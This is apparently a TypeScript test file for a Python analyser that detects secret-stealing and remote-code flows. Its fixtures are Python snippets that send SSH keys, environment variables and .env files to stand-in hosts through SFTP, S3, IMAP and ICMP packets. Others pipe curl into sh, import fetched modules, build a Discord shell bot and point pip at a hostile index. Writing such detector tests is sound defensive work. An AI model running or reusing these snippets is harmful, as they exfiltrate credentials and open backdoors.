import t from 'tap'
import { mostOf, worthOf } from '../../src/analysis/python/skim.ts'
import { summarisePython } from '../../src/analysis/python/summarise.ts'
import { CAPABILITIES } from '../../src/model/capability.ts'

const EVERYTHING = new Set(CAPABILITIES)
const KEY = 'os.path.expanduser("~/.ssh/id_rsa")'
const ENVIRONMENT = 'str(dict(os.environ))'

const FLOWS: readonly [situation: string, code: string, flow: string][] = [
  [
    'a file over SFTP',
    `import os, paramiko\nparamiko.SSHClient().open_sftp().put(${KEY}, "/x")`,
    'secret-file > network',
  ],
  [
    'a file over a transport',
    `import os, paramiko\nparamiko.SFTPClient.from_transport(T).put(${KEY}, "/x")`,
    'secret-file > network',
  ],
  [
    'a file into a bucket',
    `import os, boto3\nboto3.client("s3").upload_file(${KEY}, "b", "k")`,
    'secret-file > network',
  ],
  [
    'the environment into a bucket',
    `import os, boto3\nboto3.resource("s3").Bucket("b").put_object(Key="k", Body=${ENVIRONMENT})`,
    'env > network',
  ],
  [
    'code made into a function',
    'import types\ntypes.FunctionType(compile("import os;os.system(\'curl http://192.0.2.1/a|sh\')", "x", "exec"), {})()',
    'remote-content > process',
  ],
  [
    'a method of a library that is replaced',
    'import requests, urllib.request\nreal = requests.Session.send\ndef send(self, request, **rest):\n    urllib.request.urlopen("http://192.0.2.1/", data=request.body)\n    return real(self, request, **rest)\nrequests.Session.send = send',
    'observed > network',
  ],
  [
    'a picture that is named by a keyword',
    'import mss, requests\nwith mss.mss() as s:\n    s.shot(output="a.png")\nrequests.post("http://192.0.2.1", files={"f": open("a.png", "rb")})',
    'observed > network',
  ],
  [
    'commands of a chat',
    'import subprocess\nfrom discord.ext import commands\nbot = commands.Bot("!")\n@bot.command()\nasync def sh(ctx, *, cmd):\n    await ctx.send(subprocess.check_output(cmd, shell=True))\nbot.run("x")',
    'remote-content > process',
  ],
  [
    'modules out of an archive that was fetched',
    'import requests, sys\nopen("/tmp/m.zip", "wb").write(requests.get("http://192.0.2.1/m.zip").content)\nsys.path.insert(0, "/tmp/m.zip")\nimport m',
    'remote-content > dynamic-code',
  ],
  [
    'modules out of a folder to which one was unpacked',
    'import requests, zipfile, io, sys\nzipfile.ZipFile(io.BytesIO(requests.get("http://192.0.2.1/m.zip").content)).extractall("/tmp/m")\nsys.path.insert(0, "/tmp/m")\nimport m',
    'remote-content > dynamic-code',
  ],
  [
    'a module by its path',
    'import requests, importlib\nopen("/tmp/m.py", "w").write(requests.get("http://192.0.2.1/m").text)\nimportlib.machinery.SourceFileLoader("m", "/tmp/m.py").load_module()',
    'remote-content > dynamic-code',
  ],
  [
    'the address of a page that a browser opens',
    `import os, urllib.parse\nfrom selenium import webdriver\nwebdriver.Chrome().get("https://a.keeper.invalid/?d=" + urllib.parse.quote(open(${KEY}).read()))`,
    'secret-file > network',
  ],
  [
    'the same in a browser of its own',
    `import os\nfrom playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch().new_page().goto("https://a.keeper.invalid/?d=" + open(${KEY}).read())`,
    'secret-file > network',
  ],
  [
    'a handler of a logger',
    `import logging, logging.handlers, os\nlog = logging.getLogger("a")\nlog.addHandler(logging.handlers.HTTPHandler("a.keeper.invalid", "/v"))\nlog.error("%s", open(${KEY}).read())`,
    'secret-file > network',
  ],
  [
    'a draft in a mailbox',
    `import imaplib, os\nbox = imaplib.IMAP4_SSL("a.keeper.invalid")\nbox.append("INBOX", None, None, open(${KEY}, "rb").read())`,
    'secret-file > network',
  ],
  [
    'a blob at an address',
    `import os\nfrom azure.storage.blob import BlobClient\nBlobClient.from_blob_url("https://a.keeper.invalid/c/b").upload_blob(open(${KEY}).read())`,
    'secret-file > network',
  ],
  [
    'a bucket of everybody',
    `import os\nfrom google.cloud import storage\nstorage.Client.create_anonymous_client().bucket("b").blob("a").upload_from_string(open(${KEY}).read())`,
    'secret-file > network',
  ],
  [
    'a queue',
    `import asyncio, nats, os\nasync def go():\n    c = await nats.connect("nats://a.keeper.invalid")\n    await c.publish("t", open(${KEY}, "rb").read())\nasyncio.run(go())`,
    'secret-file > network',
  ],
  [
    'a packet',
    `import os\nfrom scapy.all import IP, ICMP, send\nsend(IP(dst="192.0.2.1") / ICMP() / open(${KEY}, "rb").read())`,
    'secret-file > network',
  ],
  [
    'a row of a table',
    `import os\nfrom supabase import create_client\ncreate_client("https://a.keeper.invalid", "k").table("t").insert({"d": open(${KEY}).read()}).execute()`,
    'secret-file > network',
  ],
  [
    'every file of variables of a project',
    `import glob, os, requests\nrequests.post("http://192.0.2.1", data=str([open(p).read() for p in glob.glob(os.path.join(os.getcwd(), "**", ".env*"), recursive=True)]))`,
    'secret-file > network',
  ],
  [
    'what a container is given',
    `import glob, requests\nrequests.post("http://192.0.2.1", data=str([open(p).read() for p in glob.glob("/run/secrets/*")]))`,
    'secret-file > network',
  ],
  [
    'a field of a form',
    `import aiohttp, os\nasync def go(d):\n    f = aiohttp.FormData()\n    f.add_field("f", d)\n    async with aiohttp.ClientSession() as s:\n        await s.post("http://192.0.2.1", data=f)\nimport asyncio\nasyncio.run(go(open(${KEY}).read()))`,
    'secret-file > network',
  ],
  [
    'a row of a hosted table',
    `import os\nfrom pyairtable import Api\nApi("k").table("a", "t").create({"d": open(${KEY}).read()})`,
    'secret-file > network',
  ],
]

t.test('ways out and ways in are followed, and worth a syntax tree', async (t) => {
  for (const [situation, code, flow] of FLOWS) {
    const found = summarisePython('a.py', code).flows.map(({ source, sink }) => `${source.kind} > ${sink.kind}`)
    t.ok(found.includes(flow), `${situation}: ${found.join(', ')}`)
    t.ok(worthOf(mostOf(Buffer.from(code), true), true, EVERYTHING), situation)
  }
})

const INNOCENT: readonly [situation: string, code: string][] = [
  [
    'a method of a library that is counted',
    'import requests\ndef send(self, request):\n    return None\nrequests.Session.send = send',
  ],
  ['a file of its own', 'import boto3\nboto3.client("s3").upload_file("dist/a.whl", "b", "k")'],
  ['a folder of its own', 'import os, sys\nsys.path.insert(0, os.path.dirname(__file__))'],
]

t.test('nothing flows where nothing is taken', async (t) => {
  for (const [situation, code] of INNOCENT) t.same(summarisePython('a.py', code).flows, [], situation)
})

t.test('where pip installs from is changed by a file, too', async (t) => {
  const code =
    'import os\nopen(os.path.expanduser("~/.pip/pip.conf"), "w").write("[global]\\nindex-url=http://192.0.2.1/simple")'
  const places = summarisePython('a.py', code).capabilities.get('filesystem-write') ?? []
  t.same(
    places.flatMap(({ writes = [] }) => writes.filter((path) => path.endsWith('index-url'))),
    ['~/.config/pip/pip.conf: index-url'],
  )
  t.ok(worthOf(mostOf(Buffer.from(code), true), true, EVERYTHING))
})
